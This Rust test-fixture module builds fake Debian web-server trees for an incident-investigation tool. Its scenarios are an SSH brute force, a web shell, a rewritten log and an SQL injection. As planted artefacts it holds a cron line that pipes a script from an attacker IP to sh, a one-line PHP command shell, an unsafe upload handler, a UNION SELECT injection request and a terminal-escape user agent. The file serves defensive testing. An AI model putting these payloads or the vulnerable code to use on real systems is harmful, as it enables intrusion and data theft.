//! Realistic host trees for the investigation's tests: a small Debian web
//! server (`web01`) as a baseline and as it was found after an incident,
//! written as plain folders (`/etc/passwd`, `/etc/shadow`, `/etc/group`,
//! `/etc/ssh/sshd_config`, `/var/log/auth.log` in rsyslog's RFC 3339 format,
//! `/var/log/nginx/access.log` in the combined format, `/var/www/html`,
//! `/root/.bash_history`, authorized_keys, cron, `/srv/app/.env`,
//! `/srv/app/exports/clients.csv`) that the tests read as folders or capture
//! with the real binary ([`capture_tree`]).
//!
//! Scenarios: [`ssh_bruteforce`] (a password guessed, sudo to root, a new
//! account with a key and a cron job, data archived into `/tmp`, history
//! cleared), [`web_shell`] (a scanner, an upload, commands through the
//! shell, a download of the exports) and [`rewritten_log`] (the SSH
//! scenario with auth.log rewritten to start after the attack), and
//! [`sql_injection`] (one snapshot: an endpoint exploited). All data is
//! fake: example.com addresses, 555 phone numbers, documentation IPs.

use super::write;
use std::path::{Path, PathBuf};

/// The database password planted in `/srv/app/.env`: it must never appear
/// in any output.
pub const DB_PASSWORD: &str = "Xq7-not-a-real-DB-pass-91";
/// The SSH brute forcer.
pub const SSH_IP: &str = "203.0.113.7";
/// The web attacker.
pub const WEB_IP: &str = "198.18.0.5";
/// The key the attacker adds, and its `ssh-keygen -l` fingerprint.
pub const EVIL_KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMhhJrrh2As0R933V+kB61oC0UR6GtKnPbmdh/wDWvrV evil@attacker";
pub const EVIL_FP: &str = "SHA256:nttAE2XK1PIkLukB3+13jsh1ds8oPtvIztlrKdwI9R4";
/// The admin's own key (in the baseline).
pub const ADMIN_KEY: &str =
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBWq0ytn8b1yY7G8cVHGRq0dS8lrxqvqkF0rXJpZqv1O admin@laptop";

/// A baseline and an incident tree of one host.
pub struct Trees {
    pub baseline: PathBuf,
    pub incident: PathBuf,
}

fn passwd(extra: &str) -> String {
    format!(
        "root:x:0:0:root:/root:/bin/bash\n\
         daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
         www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
         sshd:x:110:65534::/run/sshd:/usr/sbin/nologin\n\
         admin:x:1000:1000:Admin,,,:/home/admin:/bin/bash\n\
         deploy:x:1001:1001:Deploy,,,:/home/deploy:/bin/bash\n{extra}"
    )
}

fn shadow(extra: &str) -> String {
    format!(
        "root:$y$j9T$rootsaltrootsalt$aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa:19800:0:99999:7:::\n\
         daemon:*:19800:0:99999:7:::\n\
         www-data:*:19800:0:99999:7:::\n\
         sshd:!:19800::::::\n\
         admin:$y$j9T$adminsaltadmins$bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb:19800:0:99999:7:::\n\
         deploy:$y$j9T$deploysaltdeplo$ccccccccccccccccccccccccccccccccccccccccccc:19800:0:99999:7:::\n{extra}"
    )
}

fn group(extra: &str) -> String {
    format!(
        "root:x:0:\nsudo:x:27:admin,deploy\nwww-data:x:33:\nadmin:x:1000:\ndeploy:x:1001:\n{extra}"
    )
}

/// One auth.log line: `2026-03-10T08:00:00.000000+00:00 web01 PROG: MSG`.
pub fn syslog(time: &str, prog: &str, msg: &str) -> String {
    format!("{time}.000000+00:00 web01 {prog}: {msg}\n")
}

/// One combined-format access log line.
pub fn access(
    ip: &str,
    time: &str,
    method: &str,
    path: &str,
    status: u16,
    bytes: u64,
    ua: &str,
) -> String {
    format!(
        "{ip} - - [{time} +0000] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{ua}\"\n"
    )
}

/// The normal life of the server before the incident.
fn baseline_auth() -> String {
    let mut s = String::new();
    for d in 1..=5 {
        let day = format!("2026-03-0{d}");
        s += &syslog(
            &format!("{day}T09:00:00"),
            "sshd[1200]",
            "Accepted publickey for admin from 192.0.2.10 port 50122 ssh2: ED25519 SHA256:adminkeyfingerprint",
        );
        s += &syslog(
            &format!("{day}T09:00:00"),
            "sshd[1200]",
            "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)",
        );
        s += &syslog(
            &format!("{day}T09:05:00"),
            "sudo",
            "   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=/usr/bin/apt update",
        );
        s += &syslog(
            &format!("{day}T09:30:00"),
            "sshd[1200]",
            "pam_unix(sshd:session): session closed for user admin",
        );
    }
    s
}

fn baseline_access() -> String {
    let mut s = String::new();
    for d in 1..=5 {
        for (i, p) in ["/", "/index.html", "/css/site.css", "/contact.html"]
            .iter()
            .enumerate()
        {
            s += &access(
                &format!("192.0.2.{}", 20 + i),
                &format!("0{d}/Mar/2026:1{i}:00:00"),
                "GET",
                p,
                200,
                1500,
                "Mozilla/5.0 (X11; Linux x86_64) Firefox/123.0",
            );
        }
    }
    s
}

fn clients_csv() -> String {
    let mut s = String::from("id,name,email,phone\n");
    for i in 1..=40 {
        s += &format!("{i},Client {i},client{i}@example.com,555-01{i:02}\n");
    }
    s
}

/// The files every version of the host has.
fn common(root: &Path) {
    write(root, "etc/hostname", b"web01\n");
    write(
        root,
        "etc/ssh/sshd_config",
        b"Include /etc/ssh/sshd_config.d/*.conf\nPort 22\nPermitRootLogin no\nPasswordAuthentication yes\nUsePAM yes\n",
    );
    write(
        root,
        "etc/crontab",
        b"17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
    );
    write(
        root,
        "srv/app/.env",
        format!("APP_NAME=shop\nAPP_ENV=production\nDB_HOST=127.0.0.1\nDB_USER=shop\nDB_PASSWORD={DB_PASSWORD}\n").as_bytes(),
    );
    write(
        root,
        "srv/app/exports/clients.csv",
        clients_csv().as_bytes(),
    );
    write(
        root,
        "var/www/html/index.html",
        b"<html><body>Shop</body></html>\n",
    );
    write(root, "var/www/html/upload.php", b"<?php move_uploaded_file($_FILES['f']['tmp_name'], 'uploads/' . basename($_FILES['f']['name'])); ?>\n");
    write(
        root,
        "var/www/html/uploads/logo.png",
        b"\x89PNG\r\n\x1a\nfake",
    );
    write(
        root,
        "home/admin/.ssh/authorized_keys",
        format!("{ADMIN_KEY}\n").as_bytes(),
    );
    write(root, "home/deploy/.profile", b"# ~/.profile\n");
}

fn baseline_tree(root: &Path) {
    common(root);
    write(root, "etc/passwd", passwd("").as_bytes());
    write(root, "etc/shadow", shadow("").as_bytes());
    write(root, "etc/group", group("").as_bytes());
    write(root, "var/log/auth.log", baseline_auth().as_bytes());
    write(
        root,
        "var/log/nginx/access.log",
        baseline_access().as_bytes(),
    );
    write(
        root,
        "root/.bash_history",
        b"apt update\nsystemctl status nginx\nless /var/log/nginx/error.log\n",
    );
    touch_all(root, "2026-03-05T12:00:00Z");
}

/// The SSH attack's auth.log lines (after the baseline's).
fn ssh_attack_auth() -> String {
    let mut s = String::new();
    for i in 0..40 {
        let (m, sec) = (i * 6 / 60, i * 6 % 60);
        s += &syslog(
            &format!("2026-03-10T08:0{m}:{sec:02}"),
            &format!("sshd[{}]", 2000 + i),
            &format!(
                "Failed password for deploy from {SSH_IP} port {} ssh2",
                40000 + i
            ),
        );
    }
    s += &syslog(
        "2026-03-10T08:05:00",
        "sshd[2100]",
        &format!("Accepted password for deploy from {SSH_IP} port 40100 ssh2"),
    );
    s += &syslog(
        "2026-03-10T08:05:00",
        "sshd[2100]",
        "pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)",
    );
    s += &syslog(
        "2026-03-10T08:07:00",
        "sudo",
        "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash",
    );
    s += &syslog(
        "2026-03-10T08:09:00",
        "useradd[2200]",
        "new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0",
    );
    s += &syslog(
        "2026-03-10T08:15:00",
        "sudo",
        "  deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/tar czf /tmp/.x.tgz /srv/app/exports",
    );
    s += &syslog(
        "2026-03-10T08:20:00",
        "sshd[2100]",
        "pam_unix(sshd:session): session closed for user deploy",
    );
    s
}

/// The incident tree's files the SSH attacker changed.
fn ssh_attack_files(root: &Path) {
    write(
        root,
        "etc/passwd",
        passwd("backup2:x:1002:1002::/home/backup2:/bin/bash\n").as_bytes(),
    );
    write(
        root,
        "etc/shadow",
        shadow("backup2:$y$j9T$backupsaltbacku$ddddddddddddddddddddddddddddddddddddddddddd:20522:0:99999:7:::\n").as_bytes(),
    );
    write(root, "etc/group", group("backup2:x:1002:\n").as_bytes());
    write(
        root,
        "home/backup2/.ssh/authorized_keys",
        format!("{EVIL_KEY}\n").as_bytes(),
    );
    write(
        root,
        "etc/cron.d/backup2",
        format!("*/5 * * * * root curl -fsSL http://{SSH_IP}/u.sh | sh\n").as_bytes(),
    );
    write(
        root,
        "tmp/.x.tgz",
        b"\x1f\x8b\x08\x00fake-archive-of-the-exports",
    );
    // History cleared.
    write(root, "root/.bash_history", b"");
    for (f, t) in [
        ("etc/passwd", "2026-03-10T08:09:00Z"),
        ("etc/shadow", "2026-03-10T08:09:00Z"),
        ("etc/group", "2026-03-10T08:09:00Z"),
        ("home/backup2/.ssh/authorized_keys", "2026-03-10T08:10:00Z"),
        ("etc/cron.d/backup2", "2026-03-10T08:11:00Z"),
        ("tmp/.x.tgz", "2026-03-10T08:15:00Z"),
        ("root/.bash_history", "2026-03-10T08:19:00Z"),
    ] {
        touch(root, f, t);
    }
}

/// Scenario 1: SSH brute force on `deploy` → success → sudo to root → new
/// user `backup2` with an authorized key and a cron job → the exports
/// archived into `/tmp/.x.tgz` → root's history cleared.
pub fn ssh_bruteforce(dir: &Path) -> Trees {
    let t = Trees {
        baseline: dir.join("baseline"),
        incident: dir.join("incident"),
    };
    baseline_tree(&t.baseline);
    common(&t.incident);
    write(
        &t.incident,
        "var/log/auth.log",
        format!("{}{}", baseline_auth(), ssh_attack_auth()).as_bytes(),
    );
    write(
        &t.incident,
        "var/log/nginx/access.log",
        baseline_access().as_bytes(),
    );
    touch_all(&t.incident, "2026-03-05T12:00:00Z");
    ssh_attack_files(&t.incident);
    touch(&t.incident, "var/log/auth.log", "2026-03-10T08:20:00Z");
    t
}

/// Scenario 2: a web shell. A scanner probes from [`WEB_IP`], uploads
/// `/uploads/img.php` through `/upload.php`, reads `/srv/app/.env` through
/// it and downloads `/exports/clients.csv`.
pub fn web_shell(dir: &Path) -> Trees {
    let t = Trees {
        baseline: dir.join("baseline"),
        incident: dir.join("incident"),
    };
    baseline_tree(&t.baseline);
    common(&t.incident);
    write(&t.incident, "etc/passwd", passwd("").as_bytes());
    write(&t.incident, "etc/shadow", shadow("").as_bytes());
    write(&t.incident, "etc/group", group("").as_bytes());
    write(&t.incident, "var/log/auth.log", baseline_auth().as_bytes());
    write(
        &t.incident,
        "root/.bash_history",
        b"apt update\nsystemctl status nginx\nless /var/log/nginx/error.log\n",
    );
    write(
        &t.incident,
        "var/www/html/uploads/img.php",
        b"<?php if(isset($_GET['cmd'])){ system($_GET['cmd']); } ?>\n",
    );
    let ua = "Mozilla/5.0 (X11; Linux x86_64) Chrome/122.0";
    let mut log = baseline_access();
    for i in 0..40 {
        log += &access(
            WEB_IP,
            &format!("10/Mar/2026:09:00:{i:02}"),
            "GET",
            &format!("/admin/backup{i}.php"),
            404,
            162,
            "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000123)",
        );
    }
    log += &access(
        WEB_IP,
        "10/Mar/2026:09:05:00",
        "POST",
        "/upload.php",
        200,
        512,
        ua,
    );
    log += &access(
        WEB_IP,
        "10/Mar/2026:09:06:00",
        "GET",
        "/uploads/img.php?cmd=id",
        200,
        54,
        ua,
    );
    log += &access(
        WEB_IP,
        "10/Mar/2026:09:07:00",
        "GET",
        "/uploads/img.php?cmd=cat+/srv/app/.env",
        200,
        120,
        ua,
    );
    // A hostile user agent: terminal escapes must come out inert.
    log += &access(
        WEB_IP,
        "10/Mar/2026:09:08:00",
        "GET",
        "/uploads/img.php?cmd=ls+/srv/app/exports",
        200,
        40,
        "evil\x1b[2J\x1b]0;pwned\x07agent",
    );
    log += &access(
        WEB_IP,
        "10/Mar/2026:09:10:00",
        "GET",
        "/exports/clients.csv",
        200,
        48213,
        ua,
    );
    write(&t.incident, "var/log/nginx/access.log", log.as_bytes());
    touch_all(&t.incident, "2026-03-05T12:00:00Z");
    touch(
        &t.incident,
        "var/www/html/uploads/img.php",
        "2026-03-10T09:05:00Z",
    );
    touch(
        &t.incident,
        "var/log/nginx/access.log",
        "2026-03-10T09:10:00Z",
    );
    t
}

/// Scenario 3: the SSH attack, with auth.log rewritten afterwards: the
/// incident's auth.log holds neither the baseline's lines nor the attack,
/// only lines from after it.
pub fn rewritten_log(dir: &Path) -> Trees {
    let t = ssh_bruteforce(dir);
    let mut s = String::new();
    s += &syslog(
        "2026-03-10T10:00:00",
        "sshd[3000]",
        "Accepted publickey for admin from 192.0.2.10 port 50200 ssh2: ED25519 SHA256:adminkeyfingerprint",
    );
    s += &syslog(
        "2026-03-10T10:00:00",
        "sshd[3000]",
        "pam_unix(sshd:session): session opened for user admin(uid=1000) by (uid=0)",
    );
    s += &syslog(
        "2026-03-10T10:20:00",
        "sshd[3000]",
        "pam_unix(sshd:session): session closed for user admin",
    );
    write(&t.incident, "var/log/auth.log", s.as_bytes());
    touch(&t.incident, "var/log/auth.log", "2026-03-10T10:20:00Z");
    t
}

/// Scenario 4 (one snapshot): a vulnerable endpoint. [`WEB_IP`] scans the
/// site, then `/product.php` answers 200 to a SQL injection that dumps the
/// users table.
pub fn sql_injection(dir: &Path) -> PathBuf {
    let root = dir.join("incident");
    common(&root);
    write(&root, "etc/passwd", passwd("").as_bytes());
    let ua = "sqlmap/1.8.2#stable (https://sqlmap.org)";
    let mut log = baseline_access();
    for i in 0..35 {
        log += &access(
            WEB_IP,
            &format!("11/Mar/2026:14:00:{i:02}"),
            "GET",
            &format!("/old/{i}.php"),
            404,
            150,
            ua,
        );
    }
    log += &access(
        WEB_IP,
        "11/Mar/2026:14:02:00",
        "GET",
        "/product.php?id=1%27%20AND%201=2",
        500,
        300,
        ua,
    );
    log += &access(
        WEB_IP,
        "11/Mar/2026:14:03:00",
        "GET",
        "/product.php?id=-1%20UNION%20SELECT%20email,password%20FROM%20users--",
        200,
        18230,
        ua,
    );
    write(&root, "var/log/nginx/access.log", log.as_bytes());
    touch_all(&root, "2026-03-11T15:00:00Z");
    root
}

/// Capture a tree as a target root with the real binary, into a folder of
/// its own under `out` (two captures of one host in the same second would
/// otherwise get the same name); the archive path.
pub fn capture_tree(root: &Path, out: &Path) -> PathBuf {
    let out = out.join(root.file_name().expect("tree name"));
    std::fs::create_dir_all(&out).expect("mkdir out");
    let summary = super::capture(&["--root", root.to_str().expect("utf-8 path")], &out);
    super::archive_path(&summary)
}

/// Set a file's modification time (RFC 3339), as the incident left it.
pub fn touch(root: &Path, rel: &str, when: &str) {
    let t = chrono::DateTime::parse_from_rfc3339(when).expect("time");
    let st = std::time::SystemTime::UNIX_EPOCH
        + std::time::Duration::from_secs(u64::try_from(t.timestamp()).expect("after 1970"));
    std::fs::File::options()
        .write(true)
        .open(root.join(rel))
        .and_then(|f| f.set_modified(st))
        .expect("set mtime");
}

/// Every regular file under `root` to one modification time.
pub fn touch_all(root: &Path, when: &str) {
    fn walk(dir: &Path, root: &Path, when: &str) {
        for e in std::fs::read_dir(dir).expect("read_dir").flatten() {
            let p = e.path();
            if p.is_dir() {
                walk(&p, root, when);
            } else {
                let rel = p.strip_prefix(root).expect("under root");
                touch(root, rel.to_str().expect("utf-8"), when);
            }
        }
    }
    walk(root, root, when);
}
